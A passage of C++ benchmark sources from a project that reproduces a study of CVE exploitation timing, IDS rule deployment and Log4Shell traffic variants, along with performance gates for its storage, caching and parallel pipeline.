      const double brute_us = mean_query_us(*s, q, store::QueryMode::kBrute, kReps);
      const double speedup = index_us > 0 ? brute_us / index_us : 0;
      compound_gate.set("index_scan_us", index_us);
      compound_gate.set("brute_scan_us", brute_us);
      compound_gate.set("speedup", speedup);
      if (brute_us < 100.0) {
        // A 10x ratio needs the brute twin to cost well above the fixed
        // per-query overhead (~2-3 us); at down-sampled scales the whole
        // events table brute-scans in tens of microseconds.
        compound_gate.set("skipped", true);
        compound_gate.set("reason",
                          "table too small at this scale: brute twin under 100 us, speedup "
                          "not measurable above fixed per-query overhead");
        std::cout << "  compound " << report.plan << ": " << speedup
                  << "x, gate SKIPPED (brute twin " << brute_us << " us < 100 us floor)\n";
      } else {
        compound_gate.set("skipped", false);
        compound_gate.set("pass", speedup >= 10.0);
        std::cout << "  compound " << report.plan << ": " << via_index.matched
                  << " matched, index " << index_us << " us, brute " << brute_us << " us ("
                  << speedup << "x, require >= 10x)\n";
        if (speedup < 10.0) {
          std::cerr << "compound intersection gate FAILED\n";
          gates_ok = false;
        }
      }
    }
  }

  // Leg 6: incremental checkpoint vs full rewrite.  Build an 8-run base
  // tier, land a 1-run delta, and compare the segment append against the
  // compaction that rewrites the whole chain.  A delta 1/9th the size
  // should checkpoint well over 5x faster than the full rewrite.
  util::Json checkpoint_gate;
  checkpoint_gate.set("gate", "incremental_checkpoint_vs_full_rewrite");
  checkpoint_gate.set("required_speedup", 5.0);
  {
    bool base_ok = true;
    for (int r = 2; r <= 8 && base_ok; ++r) {
      base_ok = s->ingest(cold, "bench-run-" + std::to_string(r), &error);
    }
    base_ok = base_ok && s->checkpoint(&error) && s->ingest(cold, "bench-run-9", &error);
    if (!base_ok) {
      checkpoint_gate.set("skipped", true);
      checkpoint_gate.set("reason", "base tier setup failed: " + error.detail);
      std::cout << "  checkpoint gate SKIPPED (" << error.detail << ")\n";
    } else {
      start = std::chrono::steady_clock::now();
      const bool incr_ok = s->checkpoint(&error);  // 1-run segment append
      const double incremental_seconds = seconds_since(start);
      start = std::chrono::steady_clock::now();
      const bool compact_ok = s->compact(&error);  // 9-run full rewrite
      const double full_rewrite_seconds = seconds_since(start);
      if (!incr_ok || !compact_ok) {
        checkpoint_gate.set("skipped", true);
        checkpoint_gate.set("reason", "checkpoint/compact failed: " + error.detail);
        std::cout << "  checkpoint gate SKIPPED (" << error.detail << ")\n";
      } else {
        const double speedup =
            incremental_seconds > 0 ? full_rewrite_seconds / incremental_seconds : 1e9;
        checkpoint_gate.set("skipped", false);
        checkpoint_gate.set("incremental_seconds", incremental_seconds);
        checkpoint_gate.set("full_rewrite_seconds", full_rewrite_seconds);
        checkpoint_gate.set("speedup", speedup);
        checkpoint_gate.set("pass", speedup >= 5.0);
        std::cout << "  incremental checkpoint " << incremental_seconds << " s vs full rewrite "
                  << full_rewrite_seconds << " s (" << speedup << "x, require >= 5x)\n";
        if (speedup < 5.0) {
          std::cerr << "incremental checkpoint gate FAILED\n";
          gates_ok = false;
        }
      }
    }
  }

  util::Json doc;
  doc.set("bench", "bench_store");
  doc.set("event_scale", config.event_scale);
  doc.set("session_rows", static_cast<std::int64_t>(cold.traffic.sessions.size()));
  doc.set("event_rows", static_cast<std::int64_t>(cold.reconstruction.events.size()));
  doc.set("cold_seconds", cold_seconds);
  doc.set("warm_rerun_seconds", warm_seconds);
  doc.set("ingest_seconds", ingest_seconds);
  doc.set("ingest_rows_per_second", ingest_rows_per_second);
  doc.set("checkpoint_seconds", checkpoint_seconds);
  doc.set("reopen_seconds", reopen_seconds);
  doc.set("snapshot_bytes", static_cast<std::int64_t>(s->stats().snapshot_bytes));
  doc.set("queries", std::move(queries));
  doc.set("worst_index_scan_us", worst_index_us);
  doc.set("speedup_vs_warm_rerun", speedup_vs_warm);
  doc.set("digests_match", digests_ok);
  util::Json gates{util::JsonArray{}};
  gates.push_back(std::move(compound_gate));
  gates.push_back(std::move(checkpoint_gate));
  doc.set("gates", std::move(gates));
  std::ofstream out(out_path);
  out << doc.dump(2) << "\n";
  std::cout << "  wrote " << out_path << "\n";

  std::filesystem::remove_all(scratch);
  if (!digests_ok || !gates_ok || speedup_vs_warm < 50.0) return 1;
  return 0;
}
