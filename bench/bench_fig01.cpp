// Figure 1: observed CVEs by public availability (quarterly histogram).
#include <iostream>

#include "data/appendix_e.h"
#include "report/figures.h"
#include "stats/histogram.h"

int main() {
  using namespace cvewb;
  const auto begin = data::study_begin();
  const auto end = data::study_end();
  const double window_days = (end - begin).total_days();
  stats::Histogram quarterly(0.0, window_days, 8);  // 8 quarters over two years
  for (const auto& rec : data::appendix_e()) {
    quarterly.add((rec.published - begin).total_days());
  }
  util::PlotOptions options;
  options.x_label = "days since 2021-03-01 (CVE publication)";
  report::print_figure(std::cout, "Figure 1: observed CVEs by public availability",
                       {report::histogram_series("CVEs per quarter", quarterly)}, options);
  // The paper notes a steady stream with a drop-off near the study end
  // (late CVEs haven't accumulated traffic yet).
  double first_half = 0;
  double second_half = 0;
  for (std::size_t i = 0; i < quarterly.bin_count(); ++i) {
    (i < quarterly.bin_count() / 2 ? first_half : second_half) += quarterly.count(i);
  }
  std::cout << "first year: " << first_half << " CVEs, second year: " << second_half
            << " CVEs (drop-off expected near study end)\n";
  std::cout << "last-quarter count: " << quarterly.count(quarterly.bin_count() - 1) << "\n";
  return 0;
}
