// Section 4 representativity statistics: telescope geometry, source/
// destination diversity, RCA outcomes, and the Finding 1/2 checks.
#include <iostream>
#include <set>

#include "common.h"
#include "report/table.h"

int main() {
  using namespace cvewb;
  const auto& study = bench::the_study();
  const auto dscope = pipeline::make_study_telescope(bench::study_config());

  bench::header("Section 4 -- collection representativity");
  std::cout << "telescope lanes (concurrent instances): " << dscope.config().lanes
            << " (paper: ~300)\n";
  std::cout << "instance lifetime: " << dscope.config().lifetime.total_seconds() / 60
            << " min (paper: 10 min)\n";
  std::cout << "instance slots over study: " << dscope.total_instance_slots() << "\n";
  std::cout << "rotating pool size: " << dscope.pool().size() << " addresses (paper: 5 M unique"
            << " IPs)\n";
  std::cout << "sessions captured: " << study.traffic.sessions.size() << "\n";
  std::cout << "unique telescope IPs receiving traffic: " << study.unique_telescope_ips
            << " (paper: 105 k of 5 M at full deployment)\n";
  std::cout << "unique source IPs: " << study.unique_source_ips << "\n";

  std::size_t exploit_sources = 0;
  {
    std::set<std::uint32_t> sources;
    for (std::size_t i = 0; i < study.traffic.sessions.size(); ++i) {
      if (study.traffic.tags[i].kind == traffic::TrafficTag::Kind::kExploit) {
        sources.insert(study.traffic.sessions[i].src.value());
      }
    }
    exploit_sources = sources.size();
  }
  std::cout << "sources sending CVE-targeted traffic: " << exploit_sources
            << " (paper: 3.6 k of 15 M)\n";

  bench::header("Section 3.2 -- root-cause analysis");
  std::cout << "CVEs kept after review: " << study.reconstruction.rca.kept_cves()
            << ", dropped: " << study.reconstruction.rca.dropped_cves()
            << " (the over-broad decoy rule must be dropped)\n";
  for (const auto& verdict : study.reconstruction.rca.verdicts) {
    if (!verdict.kept) {
      std::cout << "  dropped " << verdict.cve_id << ": " << verdict.reason << " ("
                << verdict.detections << " detections)\n";
    }
  }

  bench::header("Findings 1-2");
  std::cout << "Finding 1: median studied CVSS = 9.8; see bench_fig02 for the CDF\n";
  int talos = 0;
  for (const auto& rec : data::appendix_e()) talos += rec.talos_disclosed ? 1 : 0;
  std::cout << "Finding 2: " << talos << " of " << data::appendix_e().size()
            << " CVEs disclosed by the IDS vendor (paper: 5 of 63); " << data::distinct_vendors()
            << " vendors represented\n";
  return 0;
}
