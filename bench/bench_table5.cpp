// Table 5: desideratum satisfaction on a per-exploit-event basis.
#include <iostream>

#include "common.h"
#include "report/figures.h"
#include "report/table.h"

int main() {
  using namespace cvewb;
  const auto& study = bench::the_study();
  bench::header("Table 5 -- per-exploit-event desideratum satisfaction");
  std::cout << report::render_skill_table(study.table5, &report::paper_table5_satisfied(),
                                          &report::paper_table5_skill());
  report::print_comparison(std::cout, "D < A per-event (Finding 10)", 0.95,
                           study.exposure.mitigated_fraction());
  std::cout << "\nevents evaluated: " << study.reconstruction.events.size()
            << " (paper: 146 k reported; Appendix-E per-CVE column sums to ~117 k)\n";
  return 0;
}
