// Figure 5: time-series representation of desiderata -- CDFs of A-D, P-D,
// and A-P across studied CVEs, with Findings 5/6/8 statistics.
#include <iostream>

#include "lifecycle/windows.h"
#include "report/figures.h"
#include "report/table.h"
#include "stats/distfit.h"

int main() {
  using namespace cvewb;
  using lifecycle::Event;
  const auto timelines = lifecycle::study_timelines();

  const auto a_minus_d = lifecycle::window_days(Event::kFixDeployed, Event::kAttacks, timelines);
  const auto p_minus_d =
      lifecycle::window_days(Event::kFixDeployed, Event::kPublicAwareness, timelines);
  const auto a_minus_p =
      lifecycle::window_days(Event::kPublicAwareness, Event::kAttacks, timelines);

  util::PlotOptions options;
  options.y_unit_interval = true;
  options.x_label = "days";
  report::print_figure(std::cout, "Figure 5a: CDF of A - D",
                       {report::ecdf_series("A-D", stats::Ecdf(a_minus_d))}, options);
  report::print_comparison(std::cout, "P(D < A)", 0.56, 1.0 - stats::Ecdf(a_minus_d).at(-1e-9));

  report::print_figure(std::cout, "Figure 5b: CDF of P - D",
                       {report::ecdf_series("P-D", stats::Ecdf(p_minus_d))}, options);
  report::print_comparison(std::cout, "P(D < P)", 0.13, 1.0 - stats::Ecdf(p_minus_d).at(-1e-9));

  report::print_figure(std::cout, "Figure 5c: CDF of A - P",
                       {report::ecdf_series("A-P", stats::Ecdf(a_minus_p))}, options);
  report::print_comparison(std::cout, "P(P < A)", 0.90, 1.0 - stats::Ecdf(a_minus_p).at(-1e-9));

  // Finding 5: violations of D < A are often narrow.
  const auto profile = lifecycle::violation_profile(a_minus_d, 30.0);
  std::cout << "\nFinding 5: " << profile.narrow_violations << " of " << profile.violations
            << " D<A violations are narrower than 30 days\n";
  // Finding 6: deployment closely follows publication.
  std::size_t within_10 = 0;
  for (double d : p_minus_d) {
    if (d < 0 && d >= -10) ++within_10;  // D within 10 days *after* P
  }
  std::cout << "Finding 6: " << within_10
            << " CVEs had IDS fixes deployed within 10 days after publication\n";
  // Finding 8: positive A-P delays are roughly exponential.
  std::vector<double> positive;
  for (double d : a_minus_p) {
    if (d >= 0) positive.push_back(d);
  }
  const auto fit = stats::fit_exponential(positive);
  std::cout << "Finding 8: exponential fit to positive A-P: mean=" << report::fmt(fit.mean, 1)
            << " days, KS=" << report::fmt(fit.ks) << " (\"rough exponential\")\n";
  return 0;
}
