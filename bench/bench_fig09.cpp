// Figure 9: CDFs of Log4Shell traffic variants during December 2021, one
// series per signature-release group (Table 6).  Later groups ramp later:
// increasing attack sophistication over the month.
#include <iostream>
#include <map>

#include "common.h"
#include "ids/matcher.h"
#include "report/figures.h"
#include "data/log4shell_variants.h"

int main() {
  using namespace cvewb;
  const auto& study = bench::the_study();
  const auto* rec = data::find_cve("CVE-2021-44228");
  std::map<int, char> sid_group;
  for (const auto& variant : data::log4shell_variants()) sid_group[variant.sid] = variant.group;

  // Attribute sessions to variants with the matcher (not ground truth).
  const ids::Matcher matcher(study.ruleset.rules());
  std::map<char, std::vector<double>> group_days;
  const auto december_end = rec->published + util::Duration::days(31);
  for (const auto& session : study.traffic.sessions) {
    if (session.open_time >= december_end) continue;
    const ids::Rule* rule = matcher.earliest_published_match(session);
    if (rule == nullptr || rule->cve != "CVE-2021-44228") continue;
    group_days[sid_group.at(rule->sid)].push_back(
        (session.open_time - rec->published).total_days());
  }

  std::vector<util::Series> series;
  for (const auto& [group, days] : group_days) {
    series.push_back(
        report::ecdf_series(std::string("group ") + group, stats::Ecdf(days)));
  }
  util::PlotOptions options;
  options.y_unit_interval = true;
  options.x_label = "days since publication (December 2021)";
  report::print_figure(std::cout, "Figure 9: Log4Shell variant groups, December 2021", series,
                       options);

  std::cout << "sessions per group in December: ";
  for (const auto& [group, days] : group_days) std::cout << group << "=" << days.size() << " ";
  std::cout << "\n(Finding 14: later groups -- new evasions -- appear days after release)\n";
  return 0;
}
