// Finding 7: hypothetical "IDS vendors included in coordinated disclosure"
// scenario -- move rule releases that trailed publication by <= 30 days to
// the publication instant and re-evaluate D < A.  Also the §5 fn. 2
// ablation: the 30-day registered-ruleset delay.
#include <iostream>

#include "lifecycle/scenario.h"
#include "report/figures.h"
#include "report/table.h"

int main() {
  using namespace cvewb;
  const auto baseline = lifecycle::study_timelines();
  const lifecycle::Desideratum d_before_a{lifecycle::Event::kFixDeployed,
                                          lifecycle::Event::kAttacks, 0.187};

  std::cout << "=== Finding 7: IDS vendors in coordinated disclosure ===\n";
  const auto scenario = lifecycle::ids_in_disclosure_scenario(baseline, 30.0);
  const auto impact = lifecycle::compare_scenario(baseline, scenario, d_before_a);
  report::print_comparison(std::cout, "D < A satisfied (before)", 0.56, impact.before.satisfied);
  report::print_comparison(std::cout, "D < A satisfied (after)", 0.65, impact.after.satisfied);
  report::print_comparison(std::cout, "relative skill improvement", 0.32,
                           impact.skill_improvement());

  std::cout << "\n=== Ablation: 30-day non-commercial ruleset delay (fn. 2) ===\n";
  const auto delayed = lifecycle::delayed_deployment_scenario(baseline, 30.0);
  const auto delayed_impact = lifecycle::compare_scenario(baseline, delayed, d_before_a);
  std::cout << "D < A: immediate=" << report::fmt(delayed_impact.before.satisfied)
            << " delayed=" << report::fmt(delayed_impact.after.satisfied)
            << " (skill " << report::fmt(delayed_impact.before.skill) << " -> "
            << report::fmt(delayed_impact.after.skill)
            << "): delayed rules drastically reduce IDS effectiveness\n";

  std::cout << "\n=== Sensitivity: inclusion window sweep ===\n";
  report::TextTable sweep({"window (days)", "D < A satisfied", "skill"});
  for (double window : {5.0, 10.0, 20.0, 30.0, 60.0, 120.0}) {
    const auto s = lifecycle::ids_in_disclosure_scenario(baseline, window);
    const auto i = lifecycle::compare_scenario(baseline, s, d_before_a);
    sweep.add_row({report::fmt(window, 0), report::fmt(i.after.satisfied),
                   report::fmt(i.after.skill)});
  }
  std::cout << sweep.render();
  return 0;
}
