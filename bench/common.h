// Shared scaffolding for the reproduction benches.
//
// Every bench_* binary regenerates one table or figure from the paper and
// prints paper-vs-measured rows.  The full-scale study (≈117 k exploit
// events through the telescope + IDS pipeline) is run once per binary;
// set CVEWB_SCALE (e.g. "0.1") to down-sample for quick runs.
#pragma once

#include <cstdlib>
#include <iostream>
#include <string>

#include "pipeline/study.h"

namespace cvewb::bench {

inline double env_scale() {
  const char* raw = std::getenv("CVEWB_SCALE");
  if (raw == nullptr) return 1.0;
  const double v = std::atof(raw);
  return v > 0 && v <= 1.0 ? v : 1.0;
}

inline pipeline::StudyConfig study_config() {
  pipeline::StudyConfig config;
  config.seed = 2023;
  config.event_scale = env_scale();
  config.background_per_day = 100.0;
  config.credstuff_per_day = 5.0;
  return config;
}

/// The memoized full study for this process.
inline const pipeline::StudyResult& the_study() {
  static const pipeline::StudyResult result = pipeline::run_study(study_config());
  return result;
}

inline void header(const std::string& title) {
  std::cout << "\n=== " << title << " ===\n";
}

}  // namespace cvewb::bench
