// Figures 13-18 (Appendix D): CDFs of the remaining desiderata time
// differences: A-V, P-F, X-F, A-F, X-D, A-X.
#include <iostream>

#include "lifecycle/windows.h"
#include "report/figures.h"
#include "report/table.h"

int main() {
  using namespace cvewb;
  using lifecycle::Event;
  const auto timelines = lifecycle::study_timelines();

  struct FigureSpec {
    const char* title;
    Event before;
    Event after;
    double paper_rate;
  };
  const FigureSpec figures[] = {
      {"Figure 13: A - V", Event::kVendorAwareness, Event::kAttacks, 0.90},
      {"Figure 14: P - F", Event::kFixReady, Event::kPublicAwareness, 0.13},
      {"Figure 15: X - F", Event::kFixReady, Event::kExploitPublic, 0.74},
      {"Figure 16: A - F", Event::kFixReady, Event::kAttacks, 0.56},
      {"Figure 17: X - D", Event::kFixDeployed, Event::kExploitPublic, 0.74},
      {"Figure 18: A - X", Event::kExploitPublic, Event::kAttacks, 0.39},
  };
  util::PlotOptions options;
  options.y_unit_interval = true;
  options.x_label = "days";
  for (const auto& figure : figures) {
    const auto days = lifecycle::window_days(figure.before, figure.after, timelines);
    report::print_figure(std::cout, figure.title,
                         {report::ecdf_series("diff", stats::Ecdf(days))}, options);
    const double rate = 1.0 - stats::Ecdf(days).at(-1e-9);
    report::print_comparison(std::cout,
                             std::string("P(") +
                                 std::string(lifecycle::event_letter(figure.before)) + " < " +
                                 std::string(lifecycle::event_letter(figure.after)) + ")",
                             figure.paper_rate, rate);
    std::cout << "n=" << days.size() << "\n";
  }
  return 0;
}
