// Parallel study-engine scaling: wall-clock for the full run_study
// pipeline (traffic synthesis -> fault-free capture -> IDS matching ->
// reconstruction) at 1/2/4/8 worker threads, with speedup relative to the
// threads=1 serial reference path.  Results are also written to
// BENCH_parallel.json (pass a path as argv[1] to redirect).
//
// Each thread count is run three times -- plain, with an obs::Observability
// attached (instrumentation overhead, budget: < 5%), and against a fully
// warm stage cache (the warm-cache column; acceptance: >= 2x over the
// plain leg, since traffic synthesis and reconstruction are served from
// disk).  The outputs of every run must agree, proving the thread-count,
// observability, and cache-equivalence determinism contracts at bench
// scale.
//
// Set CVEWB_SCALE to down-sample; the acceptance target (>= 3x at 8
// threads, event_scale=1.0) assumes >= 8 physical cores -- on fewer cores
// the table documents whatever the host can do, and the cross-run
// agreement check still proves the outputs identical.
#include <chrono>
#include <filesystem>
#include <fstream>
#include <iomanip>
#include <iostream>
#include <thread>

#include "cache/store.h"
#include "common.h"
#include "obs/observability.h"
#include "util/json.h"

using namespace cvewb;

namespace {

constexpr const char* kPhases[] = {"telescope", "traffic",  "faults",    "ruleset",
                                   "reconstruct", "analyze", "unique_ips"};

double run_once(pipeline::StudyConfig config, int threads, obs::Observability* observability,
                std::size_t& events_out, double& skill_out, const std::string& cache_dir = "") {
  config.threads = threads;
  config.observability = observability;
  config.cache_dir = cache_dir;
  const auto start = std::chrono::steady_clock::now();
  const pipeline::StudyResult result = pipeline::run_study(config);
  const auto stop = std::chrono::steady_clock::now();
  events_out = result.reconstruction.events.size();
  skill_out = result.table4.mean_skill();
  return std::chrono::duration<double>(stop - start).count();
}

/// Best-of-N wall-clock: scheduler/allocator noise only ever slows a run
/// down, so the minimum is the least-contaminated estimate.  Plain and
/// instrumented repeats are interleaved so bursty host noise (shared-CPU
/// containers) lands on both sides of the overhead comparison.
constexpr int kRepeats = 5;

}  // namespace

int main(int argc, char** argv) {
  const std::string out_path = argc > 1 ? argv[1] : "BENCH_parallel.json";
  pipeline::StudyConfig config = bench::study_config();

  bench::header("Parallel study engine: run_study wall-clock vs threads");
  std::cout << "event_scale=" << config.event_scale
            << "  hardware_concurrency=" << std::thread::hardware_concurrency() << "\n\n";
  std::cout << "  threads    seconds    speedup   observed    overhead       warm   warm_spd\n";

  // Warm-up run (discarded): the first study pays allocator growth and
  // page faults that would otherwise be charged to the threads=1 row and
  // skew its plain-vs-observed overhead comparison.
  {
    std::size_t events = 0;
    double skill = 0;
    (void)run_once(config, 1, nullptr, events, skill);
  }

  // Populate the stage cache once (the cold leg).  Stage keys deliberately
  // exclude the thread count, so this single populate serves the warm leg
  // of every row below.
  const std::filesystem::path cache_dir =
      std::filesystem::temp_directory_path() / "cvewb_bench_parallel_cache";
  std::filesystem::remove_all(cache_dir);
  double cold_populate_seconds = 0;
  std::size_t cold_events = 0;
  double cold_skill = 0;
  cold_populate_seconds = run_once(config, 1, nullptr, cold_events, cold_skill,
                                   cache_dir.string());

  util::Json runs{util::JsonArray{}};
  double serial_seconds = 0;
  std::size_t serial_events = 0;
  double serial_skill = 0;
  bool outputs_agree = true;
  for (const int threads : {1, 2, 4, 8}) {
    double seconds = 0;
    double observed_seconds = 0;
    double warm_seconds = 0;
    std::size_t events = 0;
    double skill = 0;
    obs::MetricsSnapshot snapshot;
    std::size_t trace_events = 0;
    for (int i = 0; i < kRepeats; ++i) {
      // Plain leg.
      const double plain_seconds = run_once(config, threads, nullptr, events, skill);
      if (threads == 1 && i == 0) {
        serial_events = events;
        serial_skill = skill;
      } else if (events != serial_events || skill != serial_skill) {
        outputs_agree = false;
      }
      if (i == 0 || plain_seconds < seconds) seconds = plain_seconds;

      // Instrumented leg: same config plus a fresh tracing/metrics sink
      // (fresh so the per-stage counters kept from the best repeat
      // describe exactly one run).  The result must not change; the
      // wall-clock delta is the obs overhead.
      obs::Observability observability;
      std::size_t observed_events = 0;
      double observed_skill = 0;
      const double repeat_seconds =
          run_once(config, threads, &observability, observed_events, observed_skill);
      if (observed_events != serial_events || observed_skill != serial_skill) {
        outputs_agree = false;
      }
      if (i == 0 || repeat_seconds < observed_seconds) {
        observed_seconds = repeat_seconds;
        snapshot = observability.metrics.snapshot();
        trace_events = observability.tracer.event_count();
      }

      // Warm-cache leg: every stage served from the populated cache.  The
      // output must match the recomputed runs exactly (the golden cache
      // test proves this at test scale; the bench re-checks at bench
      // scale).
      std::size_t warm_events = 0;
      double warm_skill = 0;
      const double warm_repeat = run_once(config, threads, nullptr, warm_events, warm_skill,
                                          cache_dir.string());
      if (warm_events != serial_events || warm_skill != serial_skill) outputs_agree = false;
      if (i == 0 || warm_repeat < warm_seconds) warm_seconds = warm_repeat;
    }
    if (threads == 1) serial_seconds = seconds;
    const double overhead_pct =
        seconds > 0 ? (observed_seconds - seconds) / seconds * 100.0 : 0.0;

    const double speedup = seconds > 0 ? serial_seconds / seconds : 0;
    const double warm_speedup = warm_seconds > 0 ? seconds / warm_seconds : 0;
    std::cout << "  " << std::setw(7) << threads << std::fixed << std::setprecision(3)
              << std::setw(11) << seconds << std::setprecision(2) << std::setw(10) << speedup
              << "x" << std::setprecision(3) << std::setw(11) << observed_seconds
              << std::setprecision(1) << std::setw(10) << overhead_pct << "%"
              << std::setprecision(3) << std::setw(11) << warm_seconds << std::setprecision(2)
              << std::setw(10) << warm_speedup << "x\n";

    util::Json stages{util::JsonObject{}};
    for (const char* phase : kPhases) {
      const auto it = snapshot.counters.find(std::string("phase_us/") + phase);
      // A pristine bench skips the fault stage; absent phases report 0.
      const double stage_seconds = it == snapshot.counters.end() ? 0.0 : it->second / 1e6;
      stages.set(phase, stage_seconds);
    }

    util::Json row;
    row.set("threads", threads);
    row.set("seconds", seconds);
    row.set("speedup", speedup);
    row.set("seconds_observed", observed_seconds);
    row.set("overhead_pct", overhead_pct);
    row.set("seconds_warm_cache", warm_seconds);
    row.set("warm_cache_speedup", warm_speedup);
    row.set("trace_events", static_cast<std::int64_t>(trace_events));
    row.set("stages", std::move(stages));
    runs.push_back(std::move(row));
  }
  if (cold_events != serial_events || cold_skill != serial_skill) outputs_agree = false;
  std::cout << "\n  outputs identical across thread counts, with observability, and from cache: "
            << (outputs_agree ? "yes" : "NO -- DETERMINISM BUG") << "\n";

  util::Json doc;
  doc.set("bench", "bench_perf_parallel");
  doc.set("pipeline", "run_study");
  doc.set("event_scale", config.event_scale);
  doc.set("hardware_concurrency", static_cast<int>(std::thread::hardware_concurrency()));
  doc.set("outputs_agree", outputs_agree);
  const cache::CacheDirStat cache_stat = cache::CacheStore::stat_dir(cache_dir);
  util::Json cache_doc{util::JsonObject{}};
  cache_doc.set("cold_populate_seconds", cold_populate_seconds);
  cache_doc.set("entries", static_cast<std::int64_t>(cache_stat.entries));
  cache_doc.set("payload_bytes", static_cast<std::int64_t>(cache_stat.payload_bytes));
  doc.set("cache", std::move(cache_doc));
  doc.set("runs", std::move(runs));
  std::filesystem::remove_all(cache_dir);
  std::ofstream out(out_path);
  out << doc.dump(2) << "\n";
  std::cout << "  wrote " << out_path << "\n";
  return outputs_agree ? 0 : 1;
}
