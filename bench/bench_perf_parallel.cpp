// Parallel study-engine scaling: wall-clock for the full run_study
// pipeline (traffic synthesis -> fault-free capture -> IDS matching ->
// reconstruction) across worker-thread counts and event scales, with
// speedup relative to the threads=1 serial reference path.  Results are
// written to BENCH_parallel.json (pass a path as argv[1] to redirect).
//
// At the base scale each thread count runs four legs -- plain, DAG-off
// (barrier-per-stage scheduling, isolating what stage overlap buys), with
// an obs::Observability attached (instrumentation overhead plus the
// per-stage breakdown the overlap ratio is computed from), and against a
// fully warm stage cache.  The outputs of every leg must agree,
// proving the thread-count, scheduling, observability, and
// cache-equivalence determinism contracts at bench scale.
//
// Set CVEWB_EVENT_SCALES to a comma-separated multiplier list (e.g.
// "1,10,100") to sweep the corpus size; multipliers apply on top of
// CVEWB_SCALE, repeats shrink as the corpus grows, and the expensive
// observed/warm/DAG-off legs run only at the base multiplier.
//
// Gates (the "gates" object in the JSON; scaling_gate.sh consumes it):
//   - reconstruct_speedup: the SoA reconstruct() engine vs the retained
//     pre-rewrite reconstruct_baseline(), same corpus, single-threaded,
//     in-process.  Must be >= 2x on any host -- no multicore required.
//   - parallel_speedup_2t / _4t: run_study speedup at 2/4 threads.  Gated
//     only when the host actually has the cores; on fewer cores the gate
//     reports "skipped (N core)" instead of silently passing -- the trap
//     where hardware_concurrency=1 made every speedup row 1.0x and the
//     bench still exited 0.
//   - sessions_per_sec: reconstruction throughput at the best thread
//     count, recorded for trend tracking (no fixed threshold; hosts vary).
#include <algorithm>
#include <chrono>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <iomanip>
#include <iostream>
#include <sstream>
#include <thread>
#include <vector>

#include "cache/serialize.h"
#include "cache/store.h"
#include "common.h"
#include "data/appendix_e.h"
#include "ids/rule_gen.h"
#include "obs/observability.h"
#include "pipeline/reconstruct_baseline.h"
#include "traffic/internet.h"
#include "util/json.h"

using namespace cvewb;

namespace {

constexpr const char* kPhases[] = {"telescope", "traffic",  "faults",    "ruleset",
                                   "reconstruct", "analyze", "unique_ips"};

struct RunLeg {
  double seconds = 0;
  std::size_t events = 0;
  double skill = 0;
  std::size_t sessions = 0;
};

RunLeg run_once(pipeline::StudyConfig config, int threads, obs::Observability* observability,
                const std::string& cache_dir = "", bool stage_dag = true) {
  config.threads = threads;
  config.stage_dag = stage_dag;
  config.observability = observability;
  config.cache_dir = cache_dir;
  RunLeg leg;
  const auto start = std::chrono::steady_clock::now();
  const pipeline::StudyResult result = pipeline::run_study(config);
  const auto stop = std::chrono::steady_clock::now();
  leg.seconds = std::chrono::duration<double>(stop - start).count();
  leg.events = result.reconstruction.events.size();
  leg.skill = result.table4.mean_skill();
  leg.sessions = result.traffic.sessions.size();
  return leg;
}

/// CVEWB_EVENT_SCALES: comma-separated multipliers on the base event
/// scale (default just {1}).  Values <= 0 are dropped.
std::vector<double> event_scale_multipliers() {
  std::vector<double> scales;
  if (const char* raw = std::getenv("CVEWB_EVENT_SCALES")) {
    std::stringstream stream(raw);
    std::string token;
    while (std::getline(stream, token, ',')) {
      const double v = std::atof(token.c_str());
      if (v > 0) scales.push_back(v);
    }
  }
  if (scales.empty()) scales.push_back(1.0);
  std::sort(scales.begin(), scales.end());
  return scales;
}

/// Best-of-N wall-clock: scheduler/allocator noise only ever slows a run
/// down, so the minimum is the least-contaminated estimate.  Repeats
/// shrink as the corpus grows (a 100x corpus needs no 5 repeats to beat
/// timer noise).
int repeats_for(double multiplier) {
  if (multiplier <= 1.0) return 5;
  if (multiplier <= 10.0) return 3;
  return 2;
}

struct Gate {
  std::string status;  // "pass" | "fail" | "skipped (N core)" | "recorded"
  double value = 0;
  double threshold = 0;
};

util::Json gate_json(const Gate& gate) {
  util::Json doc;
  doc.set("status", gate.status);
  doc.set("value", gate.value);
  if (gate.threshold > 0) doc.set("threshold", gate.threshold);
  return doc;
}

/// In-process engine gate: the SoA reconstruct() vs the retained
/// pre-rewrite baseline on one corpus, single-threaded, interleaved
/// best-of-3.  Also byte-compares the encoded reconstructions -- the
/// equivalence test at bench scale.
Gate reconstruct_gate(const pipeline::StudyConfig& config, bool& outputs_agree,
                      double& baseline_seconds, double& rewrite_seconds) {
  const telescope::Dscope dscope = pipeline::make_study_telescope(config);
  traffic::InternetConfig internet;
  internet.seed = config.seed;
  internet.event_scale = config.event_scale;
  internet.background_per_day = config.background_per_day;
  internet.credstuff_per_day = config.credstuff_per_day;
  const traffic::GeneratedTraffic corpus = traffic::generate_traffic(dscope, internet);
  const ids::RuleSet ruleset = ids::generate_study_ruleset();
  pipeline::ReconstructOptions options;
  options.window_begin = data::study_begin();
  options.window_end = data::study_end();

  baseline_seconds = 0;
  rewrite_seconds = 0;
  std::string baseline_bytes;
  std::string rewrite_bytes;
  for (int i = 0; i < 3; ++i) {
    auto start = std::chrono::steady_clock::now();
    const pipeline::Reconstruction old_rec =
        pipeline::reconstruct_baseline(corpus.sessions, ruleset, options);
    auto stop = std::chrono::steady_clock::now();
    const double old_seconds = std::chrono::duration<double>(stop - start).count();
    if (i == 0 || old_seconds < baseline_seconds) baseline_seconds = old_seconds;
    if (i == 0) baseline_bytes = cache::encode_reconstruction(old_rec);

    start = std::chrono::steady_clock::now();
    const pipeline::Reconstruction new_rec =
        pipeline::reconstruct(corpus.sessions, ruleset, options);
    stop = std::chrono::steady_clock::now();
    const double new_seconds = std::chrono::duration<double>(stop - start).count();
    if (i == 0 || new_seconds < rewrite_seconds) rewrite_seconds = new_seconds;
    if (i == 0) rewrite_bytes = cache::encode_reconstruction(new_rec);
  }
  if (baseline_bytes != rewrite_bytes) outputs_agree = false;

  Gate gate;
  gate.threshold = 2.0;
  gate.value = rewrite_seconds > 0 ? baseline_seconds / rewrite_seconds : 0;
  gate.status = gate.value >= gate.threshold ? "pass" : "fail";
  return gate;
}

}  // namespace

int main(int argc, char** argv) {
  const std::string out_path = argc > 1 ? argv[1] : "BENCH_parallel.json";
  const pipeline::StudyConfig base_config = bench::study_config();
  const unsigned cores = std::max(1u, std::thread::hardware_concurrency());
  const std::vector<double> multipliers = event_scale_multipliers();

  bench::header("Parallel study engine: run_study wall-clock vs threads");
  std::cout << "event_scale=" << base_config.event_scale << "  cores_detected=" << cores
